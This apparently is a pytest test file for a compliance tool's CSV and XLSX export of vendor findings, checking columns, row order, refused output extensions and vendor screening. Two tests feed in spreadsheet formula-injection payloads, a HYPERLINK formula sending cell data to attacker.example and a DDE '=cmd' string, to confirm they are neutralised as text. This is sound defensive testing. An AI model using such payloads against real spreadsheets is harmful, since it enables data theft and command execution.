"""Results where people work with them (issue 21): findings as CSV and XLSX, a row per finding
and asset; the output format follows --format and an --out extension that disagrees is refused;
check --fail-on; vendors screen as a grouped spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from dutybound.engine.cells import XLSX_CELL_MAX, tracking_sheet
from dutybound.engine.findings_table import HEADER

ROOT = Path(__file__).resolve().parent.parent
UK = ROOT / "examples" / "uk-telecoms"
CZ = ROOT / "examples" / "cz-energy"


def run(*args: str | Path) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "dutybound", *map(str, args)],
        cwd=ROOT,
        capture_output=True,
        timeout=120,
        env={**os.environ, "COLUMNS": "250"},
    )


def evaluate(example: Path, as_of: str, *args: str | Path) -> subprocess.CompletedProcess[bytes]:
    return run(
        "evaluate",
        "--profile",
        example / "profile.yaml",
        "--assets",
        example / "assets.csv",
        "--as-of",
        as_of,
        *args,
    )


@pytest.fixture(scope="module")
def uk_json() -> dict:
    result = evaluate(UK, "2026-11-28", "--format", "json")
    assert result.returncode == 0, result.stderr
    data: dict = json.loads(result.stdout)
    return data


def expected_rows(data: dict) -> list[tuple[str, str]]:
    """(finding id, asset id) for each row the table must have, in order."""
    return [(f["id"], a) for f in data["findings"] for a in (f["assets"] or [""])]


def test_evaluate_xlsx_opens_in_openpyxl_as_a_tracking_sheet(tmp_path: Path, uk_json) -> None:
    out = tmp_path / "findings.xlsx"
    result = evaluate(UK, "2026-11-28", "--out", out)  # the extension decides
    assert result.returncode == 0, result.stderr
    sheet = openpyxl.load_workbook(out).worksheets[0]
    rows = [[c if c is not None else "" for c in r] for r in sheet.iter_rows(values_only=True)]
    assert tuple(rows[0]) == HEADER
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == sheet.dimensions
    assert sheet["A1"].font.b and sheet.column_dimensions["D"].width > 20
    col = {h: i for i, h in enumerate(HEADER)}
    got = [(r[col["Finding ID"]], r[col["Asset ID"]]) for r in rows[1:]]
    assert got == expected_rows(uk_json)
    # an operator duty is one row with the asset columns empty; every asset row names its vendor
    assert any(a == "" for _, a in got) and any(a for _, a in got)
    for r in rows[1:]:
        assert bool(r[col["Asset ID"]]) == bool(r[col["Vendor"]])
        assert (r[col["Owner"]], r[col["Ticket"]], r[col["Notes"]]) == ("", "", "")
    core = next(r for r in rows[1:] if r[col["Obligation"]] == "gb.dvd-2022.core-removal")
    assert core[col["Asset ID"]] == "C-001" and core[col["Due"]] == "2023-12-31"
    assert core[col["Status"]] == "overdue" and core[col["Vendor group"]] == "Huawei"
    assert "s.105Z1" in core[col["Citation"]] and core[col["URL"]].startswith("https://")
    assert core[col["Binding"]] == "law" and core[col["Verified"]] in ("yes", "no")


def test_evaluate_csv_has_the_same_rows_with_vendor_group_and_site() -> None:
    result = evaluate(CZ, "2019-02-01", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout.decode())))
    risk = [r for r in rows if r["Obligation"] == "cz.nukib-2018.risk-management"]
    assert [r["Asset ID"] for r in risk] == ["E-001", "E-002", "E-003", "E-008"]
    e003 = risk[2]
    assert (e003["Vendor"], e003["Vendor group"], e003["Site"]) == (
        "ZTE Corporation",
        "ZTE",
        "Substations (rollout 2019)",
    )
    assert e003["Jurisdiction"] == "CZ" and e003["Position"] == "action_required"


def test_inventory_text_is_never_a_live_formula_in_xlsx_or_csv(tmp_path: Path) -> None:
    assets = tmp_path / "assets.csv"
    evil = '=HYPERLINK("http://attacker.example/?d="&A2,"click")'
    assets.write_text(
        "asset_id,vendor,category,function,country,status,site\n"
        f'@X1,Huawei,telecom_equipment,core,GB,installed,"{evil.replace(chr(34), chr(34) * 2)}"\n',
        encoding="utf-8",
    )
    out = tmp_path / "f.xlsx"
    args = (
        "evaluate",
        "--profile",
        UK / "profile.yaml",
        "--assets",
        assets,
        "--as-of",
        "2026-11-28",
    )
    result = run(*args, "--out", out)
    assert result.returncode == 0, result.stderr
    sheet = openpyxl.load_workbook(out).worksheets[0]
    col = {h: i for i, h in enumerate(HEADER)}
    row = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[col["Asset ID"]])
    assert row[col["Asset ID"]] == "'@X1" and row[col["Site"]] == "'" + evil
    csv_out = tmp_path / "f.csv"
    assert run(*args, "--out", csv_out).returncode == 0
    (line,) = [r for r in csv.DictReader(io.StringIO(csv_out.read_text())) if r["Asset ID"]]
    assert (line["Asset ID"], line["Site"]) == ("'@X1", "'" + evil)


def test_xlsx_cells_hold_what_xml_cannot_and_text_past_excels_limit(tmp_path: Path) -> None:
    rows = [["a\x00b\x1bc", "x" * 40_000, "=1+1", 7]]
    out = tmp_path / "t.xlsx"
    out.write_bytes(tracking_sheet("T", ["one", "two", "three", "four"], rows, [10, 10, 10, 10]))
    (got,) = openpyxl.load_workbook(out).worksheets[0].iter_rows(min_row=2, values_only=True)
    assert got[0] == "a\ufffdb\ufffdc" and got[2] == "'=1+1" and got[3] == 7
    assert len(got[1]) == XLSX_CELL_MAX and got[1].endswith("[...]")


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["--format", "json", "--out", "x.xlsx"], ["--out", "x.xlsx", "xlsx", "--format is json"]),
        (["--format", "csv", "--out", "x.json"], ["--out", "x.json", "--format is csv"]),
        (["--out", "x.docx"], ["--out", "x.docx", "Word"]),
        (["--format", "xlsx"], ["--out", "xlsx"]),
    ],
)
def test_evaluate_refuses_an_out_that_disagrees_with_the_format(
    tmp_path: Path, args: list[str], words: list[str]
) -> None:
    args = [str(tmp_path / a) if a.startswith("x.") else a for a in args]
    result = evaluate(CZ, "2019-02-01", *args)
    assert result.returncode == 2
    message = result.stderr.decode()
    for word in words:
        assert word in message, message
    assert list(tmp_path.iterdir()) == []  # nothing written, not even a staging file


def test_report_out_docx_is_refused_not_written_as_pdf(tmp_path: Path) -> None:
    out = tmp_path / "x.docx"
    result = run(
        "report",
        "--profile",
        CZ / "profile.yaml",
        "--assets",
        CZ / "assets.csv",
        "--as-of",
        "2019-02-01",
        "--out",
        out,
    )
    assert result.returncode == 2
    assert "--out" in result.stderr.decode() and "Word" in result.stderr.decode()
    assert list(tmp_path.iterdir()) == []
    mismatch = run(
        "report",
        "--profile",
        CZ / "profile.yaml",
        "--assets",
        CZ / "assets.csv",
        "--as-of",
        "2019-02-01",
        "--format",
        "pdf",
        "--out",
        tmp_path / "x.html",
    )
    assert mismatch.returncode == 2 and "--format is pdf" in mismatch.stderr.decode()
    assert list(tmp_path.iterdir()) == []


def test_evaluate_sarif_to_a_json_file_is_allowed(tmp_path: Path) -> None:
    out = tmp_path / "results.json"
    result = evaluate(CZ, "2019-02-01", "--format", "sarif", "--out", out)
    assert result.returncode == 0, result.stderr
    assert json.loads(out.read_bytes())["version"] == "2.1.0"


SUPPLIERS = "Supplier\nHuawei\nAcme Ltd\nHuawei\n=cmd|' /C calc'!A0\nHikvision\nHuawei\nAcme Ltd\n"


def test_vendors_screen_xlsx_is_one_row_per_distinct_name_with_counts(tmp_path: Path) -> None:
    suppliers = tmp_path / "suppliers.csv"
    suppliers.write_text(SUPPLIERS, encoding="utf-8")
    out = tmp_path / "screen.xlsx"
    result = run("vendors", "screen", suppliers, "--as-of", "2026-11-28", "--out", out)
    assert result.returncode == 0, result.stderr
    sheet = openpyxl.load_workbook(out).worksheets[0]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref
    header, *rows = list(sheet.iter_rows(values_only=True))
    assert header[:4] == ("Name", "Rows", "Lines", "Group")
    by_name = {r[0]: r for r in rows}
    assert len(rows) == 4  # seven lines, four distinct names
    assert by_name["Huawei"][1:4] == (3, "2, 4, 7", "huawei")
    assert by_name["Hikvision"][1:4] == (1, "6", "hikvision")
    assert by_name["Acme Ltd"][1:4] == (2, "3, 8", None)
    assert "'=cmd|' /C calc'!A0" in by_name  # a formula in the list stays text
    # matched names come first, most frequent first
    assert [r[0] for r in rows[:2]] == ["Huawei", "Hikvision"]


def test_vendors_screen_csv_groups_and_json_keeps_one_entry_per_line(tmp_path: Path) -> None:
    suppliers = tmp_path / "suppliers.csv"
    suppliers.write_text(SUPPLIERS, encoding="utf-8")
    grouped = run("vendors", "screen", suppliers, "--as-of", "2026-11-28", "--format", "csv")
    assert grouped.returncode == 0, grouped.stderr
    rows = list(csv.DictReader(io.StringIO(grouped.stdout.decode())))
    assert [(r["Name"], r["Rows"]) for r in rows if r["Name"] == "Huawei"] == [("Huawei", "3")]
    per_line = run("vendors", "screen", suppliers, "--as-of", "2026-11-28", "--format", "json")
    assert [r["line"] for r in json.loads(per_line.stdout)] == [2, 3, 4, 5, 6, 7, 8]
    refused = run("vendors", "screen", suppliers, "--format", "csv", "--out", tmp_path / "x.xlsx")
    assert refused.returncode == 2 and b"--out" in refused.stderr
    assert not (tmp_path / "x.xlsx").exists()
